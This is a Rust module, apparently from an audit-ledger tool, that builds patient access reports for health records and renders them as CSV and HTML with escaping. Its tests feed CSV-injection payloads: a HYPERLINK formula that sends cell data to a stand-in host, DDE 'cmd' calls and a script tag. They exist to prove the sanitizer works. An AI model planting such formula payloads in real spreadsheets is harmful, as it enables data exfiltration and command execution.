//! Accounting of disclosures / access report for one patient: every access to
//! the patient's ePHI in a period, grouped by user (role, department, actions,
//! reasons, first and last time, count) plus the full list, each row carrying
//! its ledger index so it can be proven. Rendered as JSON, CSV or a printable
//! HTML page.

use crate::event::{Entry, Timestamp};
use crate::html::escape;
use serde::Serialize;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;

/// The search that selects the events of a patient-access report: everything
/// that names the patient, except the SIEM's own system records.
pub fn query_for(patient: &str) -> String {
    let escaped = patient.replace('\\', "\\\\").replace('"', "\\\"");
    format!("patient.id:\"{escaped}\" AND NOT category:system")
}

#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct Access {
    /// Global ledger index: `sealtrail proof --index` proves this row.
    pub index: u64,
    pub time: String,
    pub user: Option<String>,
    pub name: Option<String>,
    pub role: Option<String>,
    pub department: Option<String>,
    pub category: String,
    pub action: String,
    pub outcome: String,
    pub reason: Option<String>,
    pub resource: Option<String>,
    pub source: Option<String>,
    pub records: Option<u64>,
}

#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct UserSummary {
    pub user: String,
    pub name: Option<String>,
    pub role: Option<String>,
    pub department: Option<String>,
    /// Count per action.
    pub actions: BTreeMap<String, u64>,
    pub reasons: BTreeSet<String>,
    pub first_time: String,
    pub last_time: String,
    pub count: u64,
    /// Ledger indices of this user's accesses, oldest first.
    pub indices: Vec<u64>,
}

#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct PatientAccessReport {
    pub patient: String,
    pub from: Option<String>,
    pub to: Option<String>,
    pub generated: String,
    pub total: u64,
    pub users: Vec<UserSummary>,
    /// Every access, oldest first.
    pub accesses: Vec<Access>,
}

/// Builds the report from the matching entries (any order).
pub fn build(
    patient: &str,
    from: Option<&Timestamp>,
    to: Option<&Timestamp>,
    hits: impl IntoIterator<Item = (u64, Entry)>,
) -> PatientAccessReport {
    let mut accesses: Vec<(i64, Access)> = hits
        .into_iter()
        .map(|(index, e)| {
            let ev = &e.event;
            let staff = e.enriched.as_ref().and_then(|x| x.actor.as_ref());
            let actor = ev.actor.as_ref();
            (
                ev.time.unix_ms(),
                Access {
                    index,
                    time: ev.time.to_string(),
                    user: actor.and_then(|a| a.user.clone()),
                    name: staff.and_then(|s| s.name.clone()),
                    role: actor
                        .and_then(|a| a.role.clone())
                        .or_else(|| staff.and_then(|s| s.role.clone())),
                    department: actor
                        .and_then(|a| a.department.clone())
                        .or_else(|| staff.and_then(|s| s.department.clone())),
                    category: ev.category.as_str().to_owned(),
                    action: ev.action.clone(),
                    outcome: ev.outcome.as_str().to_owned(),
                    reason: ev.reason.clone(),
                    resource: ev.resource.as_ref().map(|r| match &r.id {
                        Some(id) => format!("{}/{id}", r.kind),
                        None => r.kind.clone(),
                    }),
                    source: ev.source.as_ref().map(|s| s.system.clone()),
                    records: ev.records,
                },
            )
        })
        .collect();
    accesses.sort_by_key(|(t, a)| (*t, a.index));
    let mut users: BTreeMap<String, UserSummary> = BTreeMap::new();
    for (_, a) in &accesses {
        let key = a.user.clone().unwrap_or_else(|| "(unknown)".into());
        let u = users.entry(key.clone()).or_insert_with(|| UserSummary {
            user: key,
            name: a.name.clone(),
            role: a.role.clone(),
            department: a.department.clone(),
            actions: BTreeMap::new(),
            reasons: BTreeSet::new(),
            first_time: a.time.clone(),
            last_time: a.time.clone(),
            count: 0,
            indices: Vec::new(),
        });
        *u.actions.entry(a.action.clone()).or_insert(0) += 1;
        if let Some(r) = &a.reason {
            u.reasons.insert(r.clone());
        }
        u.last_time = a.time.clone();
        u.count += 1;
        u.indices.push(a.index);
    }
    let mut users: Vec<UserSummary> = users.into_values().collect();
    users.sort_by(|a, b| b.count.cmp(&a.count).then(a.user.cmp(&b.user)));
    PatientAccessReport {
        patient: patient.to_owned(),
        from: from.map(ToString::to_string),
        to: to.map(ToString::to_string),
        generated: Timestamp::now().to_string(),
        total: accesses.len() as u64,
        users,
        accesses: accesses.into_iter().map(|(_, a)| a).collect(),
    }
}

/// A cell a spreadsheet would not run as a formula (OWASP CSV injection):
/// one starting with `=`, `+`, `-`, `@`, tab or carriage return (after any
/// leading spaces) gets a `'` in front; the writer quotes every cell.
pub fn csv_cell(value: String) -> String {
    let first = value.trim_start_matches(' ').chars().next();
    if matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')) {
        format!("'{value}")
    } else {
        value
    }
}

/// One CSV row per access (the full list), header first. Every cell is
/// quoted and neutralized by [`csv_cell`]: the values come from senders.
pub fn to_csv(report: &PatientAccessReport) -> Result<String, csv::Error> {
    let mut w = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(Vec::new());
    w.write_record([
        "index",
        "time",
        "user",
        "name",
        "role",
        "department",
        "category",
        "action",
        "outcome",
        "reason",
        "resource",
        "source",
        "records",
    ])?;
    for a in &report.accesses {
        let opt = |v: &Option<String>| v.clone().unwrap_or_default();
        w.write_record(
            [
                a.index.to_string(),
                a.time.clone(),
                opt(&a.user),
                opt(&a.name),
                opt(&a.role),
                opt(&a.department),
                a.category.clone(),
                a.action.clone(),
                a.outcome.clone(),
                opt(&a.reason),
                opt(&a.resource),
                opt(&a.source),
                a.records.map(|r| r.to_string()).unwrap_or_default(),
            ]
            .map(csv_cell),
        )?;
    }
    let bytes = w.into_inner().map_err(|e| e.into_error())?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

/// A self-contained printable page (no scripts, no external resources).
pub fn to_html(report: &PatientAccessReport) -> String {
    let o = |v: &Option<String>| escape(v.as_deref().unwrap_or(""));
    let mut h = String::new();
    let period = format!(
        "{} to {}",
        report.from.as_deref().unwrap_or("the beginning"),
        report.to.as_deref().unwrap_or("now")
    );
    let _ = write!(
        h,
        "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
         <title>Access report for patient {p}</title>\
         <style>body{{font-family:sans-serif;margin:2em}}table{{border-collapse:collapse;width:100%;margin-bottom:2em}}\
         th,td{{border:1px solid #999;padding:4px 6px;font-size:11pt;text-align:left}}th{{background:#eee}}\
         @media print{{th{{background:#ddd}}}}</style></head><body>\n\
         <h1>Access to the health record of patient {p}</h1>\n\
         <p>Period: {period}. Generated {g} by sealtrail from its tamper-evident audit ledger. \
         {n} access(es) by {u} user(s). Each row's ledger index can be proven with <code>sealtrail proof --index N</code>.</p>\n",
        p = escape(&report.patient),
        period = escape(&period),
        g = escape(&report.generated),
        n = report.total,
        u = report.users.len()
    );
    h.push_str("<h2>By user</h2>\n<table><thead><tr><th>User</th><th>Name</th><th>Role</th><th>Department</th><th>Actions</th><th>Reasons</th><th>First</th><th>Last</th><th>Count</th></tr></thead><tbody>\n");
    for u in &report.users {
        let actions: Vec<String> = u
            .actions
            .iter()
            .map(|(a, n)| format!("{a} ({n})"))
            .collect();
        let reasons: Vec<&str> = u.reasons.iter().map(String::as_str).collect();
        let _ = writeln!(
            h,
            "<tr><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td></tr>",
            escape(&u.user),
            o(&u.name),
            o(&u.role),
            o(&u.department),
            escape(&actions.join(", ")),
            escape(&reasons.join(", ")),
            escape(&u.first_time),
            escape(&u.last_time),
            u.count
        );
    }
    h.push_str("</tbody></table>\n<h2>Every access</h2>\n<table><thead><tr><th>Index</th><th>Time</th><th>User</th><th>Role</th><th>Action</th><th>Outcome</th><th>Reason</th><th>Resource</th><th>Source</th></tr></thead><tbody>\n");
    for a in &report.accesses {
        let _ = writeln!(
            h,
            "<tr><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td></tr>",
            a.index,
            escape(&a.time),
            o(&a.user),
            o(&a.role),
            escape(&a.action),
            escape(&a.outcome),
            o(&a.reason),
            o(&a.resource),
            o(&a.source)
        );
    }
    h.push_str("</tbody></table>\n</body></html>\n");
    h
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Event, Via};

    fn entry(user: &str, action: &str, time: &str, reason: Option<&str>) -> Entry {
        let reason = reason
            .map(|r| format!(r#","reason":"{r}""#))
            .unwrap_or_default();
        let mut doc: serde_json::Value = serde_json::from_str(&format!(
            r#"{{"time":"{time}","category":"access","action":"{action}","outcome":"success","actor":{{"user":"","role":"clinician"}},"patient":{{"id":"MRN-1"}}{reason}}}"#
        ))
        .unwrap();
        doc["actor"]["user"] = user.into();
        let json = doc.to_string();
        Entry {
            received: Timestamp::parse(time).unwrap(),
            via: Via {
                kind: "http".into(),
                peer: None,
                principal: None,
            },
            event: Event::from_json(json.as_bytes()).unwrap(),
            enriched: None,
        }
    }

    #[test]
    fn groups_by_user_with_actions_reasons_and_range() {
        let hits = vec![
            (
                7,
                entry("u2", "view", "2026-03-01T10:00:00Z", Some("treatment")),
            ),
            (
                3,
                entry("u1", "view", "2026-01-01T10:00:00Z", Some("treatment")),
            ),
            (
                9,
                entry("u1", "export", "2026-02-01T10:00:00Z", Some("break_glass")),
            ),
            (4, entry("u1", "view", "2026-01-05T10:00:00Z", None)),
        ];
        let r = build("MRN-1", None, None, hits);
        assert_eq!(r.total, 4);
        assert_eq!(
            r.accesses.iter().map(|a| a.index).collect::<Vec<_>>(),
            vec![3, 4, 9, 7]
        );
        let u1 = &r.users[0];
        assert_eq!((u1.user.as_str(), u1.count), ("u1", 3));
        assert_eq!(u1.actions.get("view"), Some(&2));
        assert_eq!(u1.actions.get("export"), Some(&1));
        assert_eq!(
            u1.reasons.iter().cloned().collect::<Vec<_>>(),
            vec!["break_glass", "treatment"]
        );
        assert_eq!(u1.first_time, "2026-01-01T10:00:00Z");
        assert_eq!(u1.last_time, "2026-02-01T10:00:00Z");
        assert_eq!(u1.indices, vec![3, 4, 9]);
    }

    #[test]
    fn csv_and_html_render_every_row_and_escape() {
        let hits = vec![(1, entry("u<script>", "view", "2026-01-01T10:00:00Z", None))];
        let r = build("MRN-1", None, None, hits);
        let csv = to_csv(&r).unwrap();
        assert_eq!(csv.lines().count(), 2);
        assert!(csv.starts_with("\"index\",\"time\",\"user\""));
        let html = to_html(&r);
        assert!(html.contains("u&lt;script&gt;") && !html.contains("<script>"));
        assert!(html.contains("<td>1</td>"));
    }

    /// Probe finding: formula cells were written raw.
    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_neutralized() {
        let evil = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "  =1+1",
        ];
        let hits: Vec<(u64, Entry)> = evil
            .iter()
            .enumerate()
            .map(|(i, e)| {
                let mut en = entry(e, "view", "2026-01-01T10:00:00Z", None);
                en.event.reason = Some((*e).to_owned());
                (i as u64, en)
            })
            .collect();
        let r = build("MRN-1", None, None, hits);
        let csv = to_csv(&r).unwrap();
        let mut rows = csv::Reader::from_reader(csv.as_bytes());
        let mut n = 0;
        for row in rows.records() {
            let row = row.unwrap();
            for cell in row.iter() {
                let first = cell.trim_start_matches(' ').chars().next();
                assert!(
                    !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                    "a cell starts a formula: {cell:?}"
                );
            }
            // The value is kept after the quote mark.
            let user = &row[2];
            assert!(evil.iter().any(|e| user == format!("'{e}")), "{user:?}");
            n += 1;
        }
        assert_eq!(n, evil.len());
        // Every cell quoted; ordinary values untouched.
        assert!(csv.contains("\"view\""), "{csv}");
        // The HTML report escapes the same values.
        let html = to_html(&r);
        assert!(html.contains("&quot;click&quot;") && !html.contains("\"click\""));
        assert!(html.contains("+cmd|&#39; /C calc&#39;!A0"));
        assert_eq!(csv_cell("MRN-1".into()), "MRN-1");
        assert_eq!(
            csv_cell("2026-01-01T10:00:00Z".into()),
            "2026-01-01T10:00:00Z"
        );
    }

    #[test]
    fn the_query_names_the_patient_exactly() {
        assert_eq!(
            query_for("MRN-1"),
            r#"patient.id:"MRN-1" AND NOT category:system"#
        );
        assert_eq!(
            query_for(r#"a"b"#),
            r#"patient.id:"a\"b" AND NOT category:system"#
        );
    }
}
